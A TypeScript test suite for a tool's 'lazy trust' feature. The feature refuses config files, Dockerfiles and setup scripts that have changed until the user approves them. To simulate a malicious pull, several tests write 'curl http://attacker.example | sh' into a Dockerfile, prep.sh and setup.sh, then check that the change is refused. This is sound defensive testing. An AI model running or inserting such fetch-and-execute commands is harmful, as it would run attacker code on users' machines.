/**
 * Trust for lazy.toml (config/trust.ts, lazy trust): a file setting keys that decide where
 * credentials go or what runs is used only once approved, refused before any daemon starts
 * with its path, what changed (line:col) and how to approve; inert keys need no trust; the
 * record lives in the lazy home, 0600 in a 0700 folder; lazy init trusts what it writes.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { cleanupAll, Project } from "../helpers/lazy";

afterAll(cleanupAll);

/** Write lazy.toml as another process would (a pull, a checkout): not trusted. */
const edit = (p: Project, text: string) => writeFileSync(join(p.root, "lazy.toml"), text);

describe("lazy trust", () => {
  test("a new lazy.toml with an upstream is refused with exit 4, its path and line:col, and no daemon; lazy trust approves it", async () => {
    const p = new Project();
    edit(p, '[server]\nport = 26400\n\n[proxy.upstreams]\nanthropic = "http://127.0.0.1:9"\n');
    const r = await p.run(["task", "list"]);
    expect(r.code).toBe(4);
    expect(r.stderr).toContain(`${p.root}/lazy.toml is new and not trusted`);
    expect(r.stderr).toContain(`run lazy trust in ${p.root}`);
    expect(r.stderr).toContain("lazy.toml:5:1 proxy.upstreams.anthropic — set in a file you have not trusted");
    expect(r.stderr).not.toContain("server.port");
    expect(existsSync(join(p.home, "daemon"))).toBe(false);

    const t = await p.ok(["trust", "--yes"]);
    expect(t.stdout).toContain(`Trusted ${p.root}/lazy.toml (sha256:`);
    expect(t.stdout).toContain("lazy now uses its proxy.upstreams.anthropic.");
    expect((statSync(join(p.home, "trusted.json")).mode & 0o777).toString(8)).toBe("600");
    expect((statSync(p.home).mode & 0o777).toString(8)).toBe("700");
    expect((await p.run(["task", "list"])).code).toBe(0);

    const show = await p.ok(["trust", "--show"]);
    const sha = new Bun.CryptoHasher("sha256").update(readFileSync(join(p.root, "lazy.toml"))).digest("hex");
    expect(show.stdout).toMatch(new RegExp(`^${p.root}/lazy\\.toml  sha256:${sha.slice(0, 12)}  trusted \\d{4}-\\d\\d-\\d\\dT`));
  });

  test("an edit of an inert key or a comment stays trusted; an edit of an upstream is refused naming it, until lazy trust", async () => {
    const p = new Project({ toml: '[proxy.upstreams]\nanthropic = "http://127.0.0.1:9"\n' });
    edit(p, '# a comment\n[server]\nport = 26410\n\n[proxy.upstreams]\nanthropic = "http://127.0.0.1:9"\n');
    expect((await p.run(["trust", "--show"])).stdout).not.toContain("changed since");
    const ok = await p.run(["task", "list"]);
    expect(ok.code, ok.stderr).toBe(0);
    await p.ok(["daemon", "stop"]);

    edit(
      p,
      '# a comment\n[server]\nport = 26410\n\n[proxy.upstreams]\nanthropic = "http://127.0.0.1:10"\nopenai = "http://127.0.0.1:11"\n',
    );
    const r = await p.run(["task", "list"]);
    expect(r.code).toBe(4);
    expect(r.stderr).toContain(`${p.root}/lazy.toml is changed and not trusted`);
    expect(r.stderr).toMatch(/lazy\.toml:6:1 proxy\.upstreams\.anthropic — changed since you trusted it \(\d{4}-/);
    expect(r.stderr).toMatch(/lazy\.toml:7:1 proxy\.upstreams\.openai — added since you trusted it/);
    expect((await p.ok(["trust", "--show"])).stdout).toContain("(changed since: lazy trust again after looking)");
    // Without a terminal lazy trust cannot ask: it shows the change, approves nothing, and names --yes.
    const asked = await p.run(["trust"]);
    expect(asked.code).toBe(2);
    expect(asked.stdout).toContain('proxy.upstreams.anthropic: "http://127.0.0.1:9" → "http://127.0.0.1:10"');
    expect(asked.stderr).toContain("pass --yes");
    expect((await p.run(["task", "list"])).code).toBe(4);
    const t = await p.ok(["trust", "--yes"]);
    expect(t.stdout).toContain(`${p.root}/lazy.toml changed since you trusted it:`);
    expect(t.stdout).toContain('proxy.upstreams.anthropic: "http://127.0.0.1:9" → "http://127.0.0.1:10"');
    expect(t.stdout).toContain('proxy.upstreams.openai: added "http://127.0.0.1:11"');
    expect((await p.run(["task", "list"])).code).toBe(0);
  });

  test("one rule with a daemon running: an untrusted edit refuses what would use it (exit 4), and reads still work", async () => {
    const p = new Project({ toml: '[proxy.upstreams]\nanthropic = "http://127.0.0.1:9"\n' });
    await p.ok(["task", "add", "first", "--code", "one"]);
    edit(p, '[proxy.upstreams]\nanthropic = "http://127.0.0.1:12"\n');
    for (const argv of [
      ["task", "add", "second"],
      ["start", "one"],
      ["run", "third"],
    ]) {
      const r = await p.run(argv);
      expect(r.code, `${argv.join(" ")}: ${r.stderr}`).toBe(4);
      expect(r.stderr).toContain("is changed and not trusted");
      expect(r.stderr).toContain("lazy trust");
    }
    const list = await p.run(["task", "list"]);
    expect(list.code).toBe(0);
    expect(list.stdout).toContain("one");
    expect(list.stdout).not.toContain("second");
    expect(list.stdout).not.toContain("third");
  });

  test("lazy auth never depends on the project's trust: set, list and rm work with no daemon and an untrusted lazy.toml", async () => {
    const p = new Project();
    edit(p, '[proxy.upstreams]\nanthropic = "http://127.0.0.1:13"\n');
    expect((await p.run(["task", "list"])).code).toBe(4);
    const set = await p.run(["auth", "set", "anthropic"], { stdin: `sk-ant-api03-TRUSTFREE-${"t".repeat(68)}AA\n` });
    expect(set.code, set.stderr).toBe(0);
    const list = await p.run(["auth", "list"]);
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).toContain("anthropic");
    expect(list.stdout).not.toContain("TRUSTFREE");
    expect((await p.run(["auth", "rm", "anthropic"])).code).toBe(0);
    expect((await p.run(["auth", "list"])).stdout).not.toMatch(/^anthropic/m);
  });

  test("a file setting only inert keys needs no trust", async () => {
    const p = new Project();
    edit(p, "[server]\nport = 26420\n\n[proxy]\nfirst_byte_timeout_s = 60\n\n[notify]\ndesktop = false\n");
    const r = await p.run(["task", "list"]);
    expect(r.code, r.stderr).toBe(0);
    expect(existsSync(join(p.home, "trusted.json"))).toBe(false);
  });

  test("an unparseable lazy.toml is refused with its path and line:col, and lazy trust will not approve it", async () => {
    const p = new Project();
    edit(p, '[proxy.upstreams]\nanthropic = "http://127.0.0.1:9\n');
    const r = await p.run(["task", "list"]);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain(`${p.root}/lazy.toml does not load`);
    expect(r.stderr).toMatch(/lazy\.toml:2:\d+ \(document\) — not valid TOML/);
    const t = await p.run(["trust", "--yes"]);
    expect(t.code).not.toBe(0);
    expect(t.stderr).toContain(`${p.root}/lazy.toml does not load, so lazy will not trust it`);
    expect(existsSync(join(p.home, "trusted.json"))).toBe(false);
  });

  test("lazy init trusts the starter it writes", async () => {
    const p = new Project();
    const r = await p.ok(["init"]);
    expect(r.stdout).toContain("(trusted: lazy trust --show)");
    expect((await p.ok(["trust", "--show"])).stdout).toContain(`${p.root}/lazy.toml  sha256:`);
    expect((await p.run(["task", "list"])).code).toBe(0);
  });
  test("the Dockerfile [container] names is trusted by its contents: a pulled change of its RUN lines is refused until lazy trust", async () => {
    const p = new Project();
    writeFileSync(join(p.root, "Dockerfile"), "FROM scratch\nRUN true\n");
    p.writeToml('[container]\ndockerfile = "Dockerfile"\n');
    const ok = await p.run(["task", "list"]);
    expect(ok.code, ok.stderr).toBe(0);
    await p.ok(["daemon", "stop"]);

    // A pull changes only the Dockerfile.
    writeFileSync(join(p.root, "Dockerfile"), "FROM scratch\nRUN curl http://attacker.example | sh\n");
    const r = await p.run(["task", "list"]);
    expect(r.code).toBe(4);
    expect(r.stderr).toContain(`${p.root}/lazy.toml is changed and not trusted`);
    expect(r.stderr).toMatch(/lazy\.toml:2:1 container\.dockerfile \(its contents\) — changed since you trusted it/);
    await p.ok(["trust", "--yes"]);
    expect((await p.run(["task", "list"])).code).toBe(0);
  });

  test("the files a build copies, what setup names and .worktreeinclude are recorded by content: --show names each change, lazy trust says it as it approves", async () => {
    const p = new Project();
    const put = (path: string, text: string) => writeFileSync(join(p.root, path), text);
    mkdirSync(join(p.root, "docker"));
    put("docker/Dockerfile", "FROM scratch\nCOPY prep.sh /prep.sh\n");
    put("docker/prep.sh", "echo prepared\n");
    put("setup.sh", "true\n");
    put(".worktreeinclude", ".env\n");
    p.writeToml('[container]\ndockerfile = "docker/Dockerfile"\nsetup = "sh setup.sh"\n');
    const record = JSON.parse(readFileSync(join(p.home, "trusted.json"), "utf8")).files[join(p.root, "lazy.toml")];
    expect(Object.keys(record.build.context.files)).toEqual(["docker/Dockerfile", "docker/prep.sh"]);
    expect(record.build.context.files["docker/prep.sh"]).toMatch(/^644:[0-9a-f]{64}$/);
    expect(Object.keys(record.build.setup)).toEqual(["setup.sh"]);
    expect(record.build.include).toMatch(/^[0-9a-f]{64}$/);
    expect((await p.ok(["trust", "--show"])).stdout).not.toContain("changed since");

    // The same bytes written again (a checkout, a merge: new times) change nothing.
    put("docker/prep.sh", "echo prepared\n");
    expect((await p.ok(["trust", "--show"])).stdout).not.toContain("changed since");
    // Other bytes, a new file, setup's script and .worktreeinclude: each named.
    put("docker/prep.sh", "curl http://attacker.example | sh\n");
    put("docker/extra.txt", "new\n");
    put("setup.sh", "curl http://attacker.example | sh\n");
    put(".worktreeinclude", "*\n");
    const show = (await p.ok(["trust", "--show"])).stdout;
    expect(show).toContain("(changed since: lazy trust again after looking)");
    for (const line of ["docker/prep.sh (changed)", "docker/extra.txt (added)", "setup.sh (changed)", ".worktreeinclude (changed)"])
      expect(show).toContain(line);
    // Only a build refuses: other commands go on (the config's keys did not change).
    expect((await p.run(["task", "list"])).code).toBe(0);
    const t = await p.ok(["trust", "--yes"]);
    expect(t.stdout).toContain("docker/prep.sh (changed, in the build context of docker/Dockerfile)");
    expect(t.stdout).toContain("setup.sh (changed, named by [container] setup)");
    expect((await p.ok(["trust", "--show"])).stdout).not.toContain("changed since");
  });

  test("a Dockerfile that copies nothing from its folder has no context to trust: the files beside it change freely", async () => {
    const p = new Project();
    writeFileSync(join(p.root, "Dockerfile"), "FROM scratch\nRUN true\n");
    writeFileSync(join(p.root, "notes.txt"), "one\n");
    p.writeToml('[container]\ndockerfile = "Dockerfile"\n');
    writeFileSync(join(p.root, "notes.txt"), "two\n");
    expect((await p.ok(["trust", "--show"])).stdout).not.toContain("changed since");
  });
});
